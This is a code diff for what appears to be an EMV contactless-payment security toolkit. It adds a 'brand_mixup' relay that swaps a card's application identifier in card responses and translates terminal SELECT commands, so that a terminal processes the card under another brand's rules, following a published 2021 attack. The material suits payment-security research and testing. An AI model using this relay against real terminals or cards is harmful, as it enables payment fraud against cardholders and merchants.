@@ -285,6 +285,66 @@ impl CardTap for CtqRewrite {
     }
 }
 
+/// A relay that makes the card look like another brand's (Basin et al.,
+/// USENIX Security 2021): on the way to the terminal it swaps the card's
+/// AID (tags 4F and 84) for `shown`, and on the way to the card it turns a
+/// SELECT of `shown` back into one of the card's real AID. The terminal
+/// runs the kernel of the brand shown; the card never knows. No cryptogram
+/// covers the AID, but field 55 carries it to the issuer beside the PAN.
+#[derive(Debug)]
+pub struct BrandMixup {
+    shown: Vec<u8>,
+    real: Option<Vec<u8>>,
+}
+
+impl BrandMixup {
+    /// A relay that shows every card as the application `shown`.
+    pub fn new(shown: &[u8]) -> Self {
+        Self { shown: shown.to_vec(), real: None }
+    }
+
+    fn swap(&mut self, tlvs: &mut [tlv::Tlv]) {
+        for t in tlvs {
+            match &mut t.value {
+                tlv::TlvValue::Constructed(c) => self.swap(c),
+                tlv::TlvValue::Primitive(v) if matches!(t.tag, 0x4F | 0x84) => {
+                    // Directory names (1PAY…, 2PAY…) are not AIDs.
+                    if v.first() == Some(&0xA0) && *v != self.shown {
+                        self.real = Some(std::mem::replace(v, self.shown.clone()));
+                    }
+                }
+                tlv::TlvValue::Primitive(_) => {}
+            }
+        }
+    }
+}
+
+impl CardTap for BrandMixup {
+    fn name(&self) -> &'static str {
+        "brand_mixup"
+    }
+
+    fn transmit(&mut self, capdu: &[u8], card: &mut dyn CardChannel) -> Vec<u8> {
+        let select = capdu.get(1) == Some(&ins::SELECT);
+        let lc = usize::from(capdu.get(4).copied().unwrap_or(0));
+        let rapdu = match (&self.real, capdu.get(5..5 + lc)) {
+            (Some(real), Some(name)) if select && name == self.shown.as_slice() => {
+                card.transmit(&crate::protocol::apdu::Command::select(real).to_bytes())
+            }
+            _ => card.transmit(capdu),
+        };
+        if !select || rapdu.len() <= 2 {
+            return rapdu;
+        }
+        let (body, sw) = rapdu.split_at(rapdu.len() - 2);
+        let Ok(mut tlvs) = tlv::parse(body) else { return rapdu };
+        self.swap(&mut tlvs);
+        let mut out = tlv::encode(&tlvs);
+        out.extend_from_slice(sw);
+        out
+    }
+}
+
 /// A relay: the card is in a victim's pocket somewhere else, and every
 /// exchange makes the round trip to it and back, `per` each way and back.
 #[derive(Debug)]
